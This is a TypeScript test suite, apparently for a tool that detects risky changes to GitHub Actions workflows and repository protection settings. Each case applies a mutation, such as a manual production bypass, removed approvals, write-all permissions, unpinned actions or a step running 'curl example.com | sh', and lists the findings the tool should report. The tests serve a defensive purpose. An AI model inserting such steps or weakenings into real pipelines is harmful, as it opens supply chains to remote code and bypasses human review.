import { type Case, findsCases } from './pipeline-copies.ts';

const DEPLOY = '.github/workflows/deploy.yml';
const FORGE = 'tallyman/repository.json';
const BYPASS = `on: workflow_dispatch
jobs:
  now: { runs-on: ubuntu-24.04, environment: production, steps: [{ run: ./deploy.sh production }] }
`;
const WAY = 'production_path production path#/jobs';

const GITHUB: readonly Case[] = [
  [
    'a workflow that deploys by hand, past everything',
    (copy) => copy.write('.github/workflows/hotfix.yml', BYPASS),
    ['job hotfix/now#', `${WAY}/hotfix~1now`, 'token_permissions hotfix#', 'workflow hotfix#'],
  ],
  [
    'a deployment with a production secret and no environment',
    (copy) =>
      copy.write(
        '.github/workflows/x.yml',
        `on: push\njobs: { j: { runs-on: x, steps: [{ run: "go $\{{ secrets.PROD_KEY }}" }] } }`,
      ),
    ['job x/j#', `${WAY}/x~1j`, 'token_permissions x#', 'workflow x#'],
  ],
  [
    'a lost gate before production',
    (copy) => copy.edit(DEPLOY, '    needs: staging\n', ''),
    [
      'job deploy/production#/needs',
      `${WAY}/deploy~1production/after/0`,
      `${WAY}/deploy~1production/after/1`,
      `${WAY}/deploy~1production/after/2`,
    ],
  ],
  [
    'a lost condition',
    (copy) => copy.edit(DEPLOY, "    if: github.ref == 'refs/heads/main'\n", ''),
    ['job deploy/production#/if', `${WAY}/deploy~1production/conditions/0`],
  ],
  [
    'a condition that lets failures through',
    (copy) => copy.edit(DEPLOY, 'if: github.ref', 'if: always() && github.ref'),
    ['job deploy/production#/if', `${WAY}/deploy~1production/conditions/0`],
  ],
  [
    'another trigger',
    (copy) => copy.edit(DEPLOY, '  push:\n', '  schedule: [{ cron: "0 3 * * *" }]\n  push:\n'),
    [`${WAY}/deploy~1production/startedBy/1`, 'workflow deploy#/on/schedule'],
  ],
  [
    'another branch',
    (copy) => copy.edit(DEPLOY, '[main]', '[main, "hotfix/**"]'),
    [`${WAY}/deploy~1production/startedBy/0`, 'workflow deploy#/on/push/branches/0'],
  ],
  [
    'an extra step',
    (copy) =>
      copy.edit(
        DEPLOY,
        '      - run: ./deploy.sh production',
        '      - run: curl example.com | sh\n      - run: ./deploy.sh production',
      ),
    ['job deploy/production#/steps/1'],
  ],
  [
    'a step that is gone',
    (copy) => copy.edit(DEPLOY, '      - run: ./scan.sh --token=canary-in-a-script\n', ''),
    ['job deploy/scan#/steps/1'],
  ],
  [
    'a line in a script',
    (copy) => copy.edit(DEPLOY, 'npm test', 'npm test || true'),
    ['job deploy/test#/steps/2/run/1'],
  ],
  [
    'another action version',
    (copy) => copy.edit(DEPLOY, 'setup-node@v4', 'setup-node@v5'),
    ['job deploy/test#/steps/1/version'],
  ],
  [
    'a tag in place of a commit',
    (copy) => copy.edit(DEPLOY, '11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', 'v4'),
    ['job deploy/test#/steps/0/pinned', 'job deploy/test#/steps/0/version'],
  ],
  [
    'another input of an action',
    (copy) => copy.edit(DEPLOY, 'node-version: 24', 'node-version: 22'),
    ['job deploy/test#/steps/1/with/node-version'],
  ],
  [
    'wider permissions',
    (copy) => copy.edit(DEPLOY, 'id-token: write, contents: read', 'id-token: write, contents: write'),
    ['token_permissions deploy#/jobs/production/contents'],
  ],
  [
    'permissions for everything',
    (copy) => copy.edit(DEPLOY, 'permissions:\n  contents: read', 'permissions: write-all'),
    ['token_permissions deploy#/workflow'],
  ],
  [
    'another runner',
    (copy) => copy.edit(DEPLOY, '[self-hosted, linux]', '[self-hosted, linux, big]'),
    ['job deploy/scan#/runs-on/0'],
  ],
  [
    'another secret',
    (copy) => copy.edit(DEPLOY, 'secrets.DEPLOY_TOKEN', 'secrets.ADMIN_TOKEN'),
    ['job deploy/production#/secretsUsed/0', 'job deploy/production#/steps/1/env/TOKEN'],
  ],
  [
    'another written secret',
    (copy) => copy.edit(DEPLOY, 'canary-in-an-env', 'canary-in-another'),
    ['workflow deploy#/env/ERP_PASSWORD'],
  ],
  [
    'an ignored failure',
    (copy) => copy.edit(DEPLOY, '  scan:\n', '  scan:\n    continue-on-error: true\n'),
    ['job deploy/scan#/continue-on-error'],
  ],
  [
    'a changed action of the repository',
    (copy) => copy.edit('.github/actions/sign/action.yml', 'cosign sign', 'true'),
    ['action .github/actions/sign#/runs/steps/0/run/0'],
  ],
  [
    'a way through a called workflow',
    (copy) => copy.edit('.github/workflows/release.yml', 'published', 'published, edited'),
    [`${WAY}/release~1all → apply~1apply/startedBy/0`, 'workflow release#/on/release/types/0'],
  ],
  [
    'a workflow of another repository',
    (copy) =>
      copy.edit(
        '.github/workflows/release.yml',
        './.github/workflows/apply.yml',
        'other/repo/.github/workflows/apply.yml@main',
      ),
    [
      'job release/all#/pinned',
      'job release/all#/uses',
      'job release/all#/version',
      `${WAY}/release~1all → apply~1apply`,
      'production_path production path#/unread/0',
    ],
  ],
  [
    'a removed workflow',
    (copy) => copy.remove('.github/workflows/release.yml'),
    [
      'job release/all#',
      `${WAY}/release~1all → apply~1apply`,
      'token_permissions release#',
      'workflow release#',
    ],
  ],
  [
    'a removed approval',
    (copy) => copy.edit(FORGE, '"required_reviewers"', '"none"'),
    [
      'environment production#/otherRules/0',
      'environment production#/preventSelfReview',
      'environment production#/reviewers/0',
      'environment production#/reviewers/1',
      ...['deploy~1production', 'release~1all → apply~1apply'].flatMap((way) =>
        ['/otherRules/0', '/preventSelfReview', '/reviewers/0', '/reviewers/1'].map(
          (path) => `${WAY}/${way}/protection/production${path}`,
        ),
      ),
    ],
  ],
  [
    'a shorter wait',
    (copy) => copy.edit(FORGE, '"wait_timer": 30', '"wait_timer": 0'),
    [
      'environment production#/waitMinutes',
      `${WAY}/deploy~1production/protection/production/waitMinutes`,
      `${WAY}/release~1all → apply~1apply/protection/production/waitMinutes`,
    ],
  ],
  [
    'fewer reviews of a branch',
    (copy) =>
      copy.edit(FORGE, '"required_approving_review_count": 2', '"required_approving_review_count": 1'),
    ['branch_protection main#/required_pull_request_reviews/required_approving_review_count'],
  ],
  [
    'administrators who may do as they like',
    (copy) => copy.edit(FORGE, '"enabled": true', '"enabled": false'),
    ['branch_protection main#/enforce_admins'],
  ],
  [
    'a ruleset that only watches',
    (copy) => copy.edit(FORGE, '"active"', '"evaluate"'),
    ['ruleset Tags#/enforcement'],
  ],
  [
    'another owner of code',
    (copy) => copy.edit('.github/CODEOWNERS', '* @example/platform', '* @example/all'),
    ['code_owners CODEOWNERS#/rules/0'],
  ],
];

findsCases('github', GITHUB);
